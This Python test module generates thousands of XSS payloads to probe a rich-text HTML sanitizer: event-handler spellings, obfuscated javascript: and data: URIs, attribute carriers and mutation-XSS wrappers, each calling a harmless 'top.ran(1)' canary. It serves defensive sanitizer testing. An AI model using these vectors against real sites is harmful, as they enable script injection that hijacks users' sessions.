"""Attacks on rich text: thousands of pieces of HTML that would call `ran` if anything in them ran. Our own list.

In the spirit of the public collections (OWASP's cheat sheets, PortSwigger's): tags × events × spellings,
addresses of scripts, HTML that mutates when it is read twice, and names of other namespaces.
"""

from itertools import product

CALL = "top.ran(1)"

# fmt: off
TAGS = [
    "a", "abbr", "audio", "body", "button", "details", "div", "embed", "form", "frameset", "h2",
    "iframe", "img", "input", "isindex", "keygen", "li", "link", "marquee", "math", "meta", "object",
    "ol", "p", "picture", "select", "source", "style", "svg", "table", "td", "textarea", "th", "title",
    "tr", "track", "u", "ul", "video", "xss",
]
# fmt: on
# fmt: off
EVENTS = [
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "onbegin",
    "onpageshow", "onscroll", "ontoggle", "onstart", "onpointerenter", "oncanplay", "onloadstart",
    "onhashchange", "onbeforeinput", "ontransitionend", "onfocusin",
]
# fmt: on
SPELLINGS = [
    '<{tag} src=x href=x autofocus tabindex=1 open {event}="{call}">a</{tag}>',
    "<{tag}/src=x/{event}={call}>",
    '<{tag} src=`x` {event}\n=\n"{call}"x>',
    '<{tag} a="x"{event}="{call}" src=x>',
    "<{upper} SRC=x {uevent}='{call}'>",
    '<{tag} {event}="{entities}" src=x>',
    "<\x00{tag} {event}={call} src=x>",
    '<{tag}\x0csrc=x\x0c{event}="{call}">',
    "<<{tag} src=x {event}={call}//",
    '<{tag} title="</{tag}><img src=x onerror={call}>">',
]

SCRIPTS = [
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "\x01javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "java&#10;script:{call}",
    "javascript&colon;{call}",
    "&#106;&#97;vascript:{call}",
    "&#x6A;avascript&#0058;{call}",
    "&#0000106avascript:{call}",
    "javascript://%0a{call}",
    "javascript:void({call})",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    "vbscript:{call}",
    "feed:javascript:{call}",
    "view-source:javascript:{call}",
    "/\\evil.test/javascript:{call}",
    "/tep/12345678-1234-1234-1234-123456789abc/../../a?javascript:{call}",
]
CARRIERS = [
    '<a href="{address}">a</a>',
    "<a href='{address}'><b>a</b></a>",
    '<a xlink:href="{address}">a</a>',
    '<img src="{address}">',
    '<img srcset="{address} 1x">',
    '<iframe src="{address}"></iframe>',
    '<embed src="{address}">',
    '<object data="{address}"></object>',
    '<form action="{address}"><button>a</button></form>',
    '<button formaction="{address}">a</button>',
    '<meta http-equiv=refresh content="0;url={address}">',
    '<base href="{address}//"><a href=x>a</a>',
    '<link rel=stylesheet href="{address}">',
    '<table background="{address}"><tr><td>a</table>',
    '<body background="{address}">',
    '<svg><a xlink:href="{address}"><text y=9>a</text></a></svg>',
    '<svg><use href="{address}#x"></svg>',
    '<svg><animate attributeName=href values="{address}">',
    '<math href="{address}">a</math>',
    '<video poster="{address}"><source src="{address}"></video>',
    '<p style="background:url({address})">a',
    '<style>@import "{address}";</style>',
    '<blockquote cite="{address}">a</blockquote>',
    '<script src="{address}"></script>',
]

PAYLOADS = [
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<details open ontoggle={call}>",
]
# HTML that is read one way, and another when it was written and is read again.
WRAPPINGS = [
    "<noscript><p title='</noscript>{payload}'></noscript>",
    "<noscript><style></noscript>{payload}</style>",
    "<textarea></textarea>{payload}</textarea>",
    "<title><p title='</title>{payload}'></title>",
    "<style><p title='</style>{payload}'></style>",
    "<xmp><p title='</xmp>{payload}'></xmp>",
    "<iframe><p title='</iframe>{payload}'></iframe>",
    "<noembed><p title='</noembed>{payload}'></noembed>",
    "<noframes><p title='</noframes>{payload}'></noframes>",
    "<template>{payload}</template>",
    "<plaintext>{payload}",
    "<svg><style>{payload}</style></svg>",
    "<svg><style><a title='</style>{payload}'></style></svg>",
    "<math><style><!--</style><p title='--&gt;{payload}'></style></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{payload}'></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{payload}",
    "<svg></p><style><a id='</style>{payload}'>",
    "<svg><foreignObject>{payload}</foreignObject></svg>",
    "<svg><desc>{payload}</desc></svg>",
    "<svg><title><p title='</title>{payload}'></title></svg>",
    "<math><annotation-xml encoding='text/html'>{payload}</annotation-xml></math>",
    "<math><mi><mglyph>{payload}</mglyph></mi></math>",
    "<svg><![CDATA[</svg>{payload}]]>",
    "<!--><p title='-->{payload}'>",
    "<!---->{payload}-->",
    "<!--- --!>{payload}-->",
    "<!-- `\x00--\x00>{payload} -->",
    "<![if gte mso 9]>{payload}<![endif]>",
    "<!--[if gte mso 9]>{payload}<![endif]-->",
    "<?xml version='1.0'?>{payload}",
    "<select><option>{payload}</select>",
    "<table><td>{payload}</table>",
    "<table><tr>{payload}<tr></table>",
    "<table><caption><table>{payload}</table></caption></table>",
    "<p title='{payload}'>a</p>",
    '<abbr title="{payload}">a</abbr>',
    "<img src=/tep/12345678-1234-1234-1234-123456789abc/a.png alt='{payload}'>",
    "<img src='/tep/12345678-1234-1234-1234-123456789abc/a&quot;{payload}'>",
    "<a href='/a&quot;&gt;{payload}'>a</a>",
    "<a href='https://a.test/&quot;&gt;{payload}'>a</a>",
    "<td colspan='2&quot;&gt;{payload}'>a",
    "<ol start='1&quot;{payload}' type='a&quot;{payload}'><li>a</ol>",
    "<p class='align-center&quot;{payload}'>a",
    "<p style='text-align:center;{payload}'>a",
    "<pre>\n{payload}</pre>",
    "<o:p>{payload}</o:p>",
    "<font><b><p>{payload}</b></font>",
    "<scr<script>ipt>{payload}</scr</script>ipt>",
    "<p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>{payload}</span>a",
    "\ufdd0lt;{payload}",
    "&amp;lt;script&amp;gt;{payload}",
    "{escaped}",
    "{twice}",
    "%3Cscript%3E{payload}",
    "\ufeff+ADw-script+AD4-{payload}",
]
LOOSE = [
    "<style>*{{background:url(javascript:{call})}}</style>",
    "<p style='width:expression({call})'>a",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart='{call}'>a",
    "<input autofocus onfocus={call}>",
    "<form id=x></form><button form=x formaction=javascript:{call}>a",
    "<img name=getElementById><form name=body><input name=attributes>",
    "<svg><script>{call}</script></svg>",
    "<svg><script href=data:,{call} />",
    "<svg><set onbegin={call} attributename=x>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<script>{call}",
    "<script/src=data:,{call}>",
    "<script\x20type=module>{call}</script>",
    "<script>/*</script><img src=x onerror=*/{call}>",
    "</script><script>{call}</script>",
    "<iframe srcdoc='&lt;script&gt;{call}&lt;/script&gt;'></iframe>",
    "<object type=text/html data='data:text/html,<script>{call}</script>'></object>",
    "<isindex type=image src=1 onerror={call}>",
    "<marquee onstart={call}>a</marquee>",
    "<a href=/x ping=javascript:{call} target=_top download onclick={call}>a</a>",
    "<link rel=import href=data:text/html,<script>{call}</script>>",
    "<dialog open onclose={call}><form method=dialog><button autofocus>a",
    "<div contenteditable autofocus onfocus={call}>a",
    "<p id=x onfocus={call} tabindex=1>a",
]


def _entities(text):
    return "".join(f"&#{ord(letter)};" for letter in text)


def _escaped(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def armed():
    """Return every attack, each once."""
    attacks = [
        spelling.format(
            tag=tag, event=event, call=CALL, upper=tag.upper(), uevent=event.upper(), entities=_entities(CALL)
        )
        for tag, event, spelling in product(TAGS, EVENTS, SPELLINGS)
    ]
    addresses = [address.format(call=CALL) for address in SCRIPTS]
    attacks += [carrier.format(address=address) for carrier, address in product(CARRIERS, addresses)]
    payloads = [payload.format(call=CALL) for payload in PAYLOADS]
    attacks += [
        wrapping.format(payload=payload, escaped=_escaped(payload), twice=_escaped(_escaped(payload)))
        for wrapping, payload in product(WRAPPINGS, payloads)
    ]
    attacks += [loose.format(call=CALL) for loose in LOOSE]
    return list(dict.fromkeys(attacks))
